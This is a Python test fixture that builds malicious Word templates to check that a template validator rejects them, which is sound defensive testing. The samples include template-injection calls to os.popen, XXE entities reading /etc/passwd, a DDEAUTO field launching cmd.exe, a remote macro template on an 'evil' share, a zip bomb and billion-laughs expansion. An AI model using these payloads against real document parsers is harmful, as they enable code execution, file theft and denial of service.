"""Templates made to do harm, a builder each: what they try, and the code that refuses them ("" = harmless)."""

from __future__ import annotations

import io
import warnings
import zipfile
from collections.abc import Callable

from helpers.paper_samples import TEMPLATES
from helpers.word_files import RELATIONS, TYPES, document, line, packed, run, word_file

from desktop.documents.template import MOST_PARAGRAPHS

_EXTERNAL = '<Relationship Id="rId9" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def ours(kind: str = "decision") -> bytes:
    """A good template of ours."""
    return (TEMPLATES / f"{kind}.docx").read_bytes()


def changed(
    part: str, change: Callable[[str], str], *, more: dict[str, bytes] | None = None, kind: str = "decision"
) -> bytes:
    """Our decision (or another paper) with one part changed and others added."""
    with zipfile.ZipFile(io.BytesIO(ours(kind))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts[part] = change(parts[part].decode()).encode()
    return packed({**parts, **(more or {})})


def saying(text: str) -> bytes:
    """Our decision whose subject says something else as well."""
    return changed("word/document.xml", lambda xml: xml.replace("{{TRICH_YEU}}", "{{TRICH_YEU}}" + text))


def fetching(kind: str, target: str) -> bytes:
    """Our decision with a link to the outside."""
    link = _EXTERNAL.format(kind=_OFFICE + kind, target=target)
    return changed("word/_rels/document.xml.rels", lambda xml: xml.replace("</Relationships>", link))


def with_field(code: str) -> bytes:
    """A field in Word's notation."""
    runs = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
        f"<w:r><w:instrText>{code}</w:instrText></w:r>",
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )
    return word_file(line(*runs))


def laughs() -> bytes:
    """A billion laughs: entities of entities."""
    entities = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + at)} "{("&" + chr(97 + at) + ";") * 10}">' for at in range(9)
    )
    return word_file(word__document_dot_xml=f"<!DOCTYPE x [{entities}]><x>&j;</x>")


def bomb() -> bytes:
    """A part of 60 million zeros, a few kilobytes on disk."""
    return word_file(word__media__image1_dot_png=b"\0" * 60_000_000)


def nested(depth: int) -> bytes:
    """Tables inside each other."""
    inner = line("{{TRICH_YEU}}")
    for _ in range(depth):
        inner = f"<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc><w:tcPr/>{inner}</w:tc></w:tr></w:tbl>"
    return word_file(inner)


def quine() -> bytes:
    """A zip that holds itself over and over: many entries of one name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name in ["[Content_Types].xml", "_rels/.rels", *["word/document.xml"] * 3]:
            info = zipfile.ZipInfo(name)
            archive.writestr(
                info, TYPES if "Types" in name else RELATIONS if "rels" in name else document(line("x"))
            )
    return out.getvalue()


MUSEUM: dict[str, tuple[Callable[[], bytes], str]] = {
    # code and attribute walks: a name is a name and nothing else
    "an expression": (lambda: saying("{{ 7 * 7 }}"), "template.unknown_name"),
    "an attribute walk": (lambda: saying("{{ ''.__class__.__mro__ }}"), "template.unknown_name"),
    "a call": (lambda: saying('{{ cycler.__init__.__globals__.os.popen("id") }}'), "template.unknown_name"),
    "a statement": (
        lambda: saying("{% for x in range(10**9) %}{{ x }}{% endfor %}"),
        "template.broken_name",
    ),
    "an import": (lambda: saying('{% import "os" %}'), "template.broken_name"),
    "a comment": (lambda: saying("{# x #}"), "template.broken_name"),
    "a format string": (lambda: saying("{0.__class__}"), "template.broken_name"),
    "a dollar name": (lambda: saying("${TRICH_YEU} $(id) `id`"), "template.broken_name"),
    "a name inside a name": (lambda: saying("{{SO{{SO}}}}"), "template.broken_name"),
    "a name of 100 000 letters": (lambda: saying("{{" + "A" * 100_000 + "}}"), "template.unknown_name"),
    "a misspelt name": (lambda: saying("{{TRICH_YẾU}}"), "template.misspelt_name"),
    "two row markers": (lambda: saying("{{MOI_DONG}}"), "template.marker"),
    # rows and pages without end
    "paragraphs without end": (
        lambda: word_file(line("{{TRICH_YEU}}") * (MOST_PARAGRAPHS + 1)),
        "template.too_large",
    ),
    "tables inside each other": (lambda: nested(75), "template.too_large"),
    "a row marker in every row": (
        lambda: changed("word/document.xml", lambda xml: xml.replace("{{STT}}", "{{MOI_DONG}}{{STT}}")),
        "template.marker",
    ),
    # bombs
    "a zip bomb": (bomb, "template.too_large"),
    "a billion laughs": (laughs, "template.damaged"),
    "a zip with one name three times": (quine, "template.damaged"),
    "a part of depth 100 000": (
        lambda: word_file(word__document_dot_xml="<a>" * 100_000 + "</a>" * 100_000),
        "template.damaged",
    ),
    # what would be fetched
    "a picture on the web": (lambda: fetching("image", "http://example.test/x.png"), "template.external"),
    "a template on a share": (
        lambda: fetching("attachedTemplate", r"\\evil\share\t.dotm"),
        "template.external",
    ),
    "a linked frame": (lambda: fetching("frame", "file:///C:/Windows/win.ini"), "template.external"),
    "a DTD": (
        lambda: word_file(word__document_dot_xml='<!DOCTYPE x SYSTEM "http://example.test/x.dtd"><x/>'),
        "template.damaged",
    ),
    "an entity that reads a file": (
        lambda: word_file(
            word__document_dot_xml='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
        ),
        "template.damaged",
    ),
    "a DTD in the styles": (
        lambda: word_file(line("x"), word__styles_dot_xml='<!DOCTYPE x [<!ENTITY a "b">]><x/>'),
        "template.damaged",
    ),
    # what would run
    "a macro": (lambda: word_file(word__vbaProject_dot_bin=b"\0"), "template.active"),
    "a file that says it has macros": (
        lambda: word_file(line("x"), types=TYPES.replace("document.main", "template.macroEnabledTemplate")),
        "template.active",
    ),
    "an ActiveX control": (lambda: word_file(word__activeX__x_dot_bin=b"\0"), "template.active"),
    "an embedded workbook": (lambda: word_file(word__embeddings__a_dot_xlsx=b"\0"), "template.active"),
    "a chunk of another format": (lambda: word_file('<w:altChunk r:id="rId9"/>'), "template.active"),
    "an object": (lambda: word_file(line("<w:r><w:object/></w:r>")), "template.active"),
    "DDE": (lambda: with_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "template.field"),
    "INCLUDETEXT": (lambda: with_field("INCLUDETEXT c:\\\\secret.docx"), "template.field"),
    "INCLUDEPICTURE": (lambda: with_field('INCLUDEPICTURE "http://example.test/x.png"'), "template.field"),
    "HYPERLINK": (lambda: with_field('HYPERLINK "http://example.test"'), "template.field"),
    "a formula": (lambda: with_field("= 7 * 7"), "template.field"),
    # what is no Word file
    "a text file": (lambda: b"{{TRICH_YEU}}", "template.not_word"),
    "an old .doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "template.not_word"),
    "a workbook": (lambda: packed({"xl/workbook.xml": "<x/>"}), "template.not_word"),
    # what only looks bad
    "words of another program": (lambda: saying("%TEMP% &lt;%= 1 %&gt; &lt;script&gt; =CMD()"), ""),
    "signs that are hard to carry": (lambda: saying("\u00ad\u00a0 😀 &amp; &lt; &quot;"), ""),
    "a name split over runs": (
        lambda: changed(
            "word/document.xml",
            lambda xml: xml.replace("{{TRICH_YEU}}", "{{TRI</w:t></w:r>" + run("CH_") + "<w:r><w:t>YEU}}"),
        ),
        "",
    ),
}
